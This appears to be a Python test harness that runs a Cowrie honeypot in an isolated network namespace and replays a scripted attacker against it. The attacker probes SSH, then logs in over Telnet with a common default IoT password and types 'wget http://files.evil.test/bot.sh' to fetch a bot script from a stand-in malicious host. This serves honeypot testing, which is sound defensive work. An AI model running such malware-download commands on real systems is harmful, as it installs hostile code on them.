"""A honeypot attacked inside a network namespace of its own: ``unshare -n python honeypot.py VENV FOLDER``, as root.

Cowrie runs as an unprivileged user, because it refuses to run as root. The attacker logs in by Telnet from an address
of the range that nobody owns (240.0.0.0/4), types two commands, and touches the SSH port. One round for each line on
standard input; the end of the input stops everything.
"""

from __future__ import annotations

import os
import socket
import subprocess
import sys
import time

HONEYPOT, ATTACKER = "10.1.0.5", "243.51.198.15"
SSH, TELNET = 2222, 2223
TYPED = (b"uname -a", b"wget http://files.evil.test/bot.sh")


def main() -> None:
    """Start, attack at each word, stop."""
    venv, folder = sys.argv[1:3]
    for command in ("link set lo up", f"addr add {HONEYPOT}/32 dev lo", f"addr add {ATTACKER}/32 dev lo"):
        subprocess.run(["ip", *command.split()], check=True)
    cowrie(venv, folder, "init")
    cowrie(venv, folder, "start")
    try:
        for _ in sys.stdin:
            knock()
            log_in()
            print("attacked", flush=True)
    finally:
        cowrie(venv, folder, "stop")


def cowrie(venv: str, folder: str, what: str) -> None:
    """One of Cowrie's own commands, as nobody."""
    subprocess.run(
        ["cowrie", what],
        check=True,
        cwd=folder,
        user="nobody",
        group="nogroup",
        extra_groups=[],
        stdout=sys.stderr,
        env={
            "PATH": f"{venv}/bin:{os.environ['PATH']}",
            "HOME": folder,
            "COWRIE_HONEYPOT_SENSOR_NAME": "pot-1",
            "COWRIE_SSH_LISTEN_ENDPOINTS": f"tcp:{SSH}:interface={HONEYPOT}",
            "COWRIE_TELNET_ENABLED": "true",
            "COWRIE_TELNET_LISTEN_ENDPOINTS": f"tcp:{TELNET}:interface={HONEYPOT}",
        },
    )


def knock() -> None:
    """Look at the SSH port as a scanner does."""
    with connected(SSH) as talk:
        talk.recv(100)
        talk.send(b"SSH-2.0-Go\r\n")


def log_in() -> None:
    """Log in by Telnet and type."""
    with connected(TELNET) as talk:
        for expected, answer in ((b"ogin:", b"root"), (b"assword:", b"xc3511"), *((b"# ", typed) for typed in TYPED)):
            wait_for(talk, expected)
            talk.send(answer + b"\r\n")
        wait_for(talk, b"# ")
        talk.send(b"exit\r\n")
        time.sleep(0.3)


def connected(port: int) -> socket.socket:
    """A connection from the attacker's address, as soon as the honeypot listens."""
    for _ in range(600):
        try:
            return socket.create_connection((HONEYPOT, port), timeout=20, source_address=(ATTACKER, 0))
        except OSError:
            time.sleep(0.1)
    raise SystemExit(f"the honeypot does not listen on port {port}")


def wait_for(talk: socket.socket, mark: bytes) -> None:
    """Read until the honeypot asks."""
    got = b""
    while mark not in got:
        more = talk.recv(4096)
        if not more:
            raise SystemExit(f"the honeypot hung up, saying {got[-200:]!r}")
        got += more


if __name__ == "__main__":
    main()
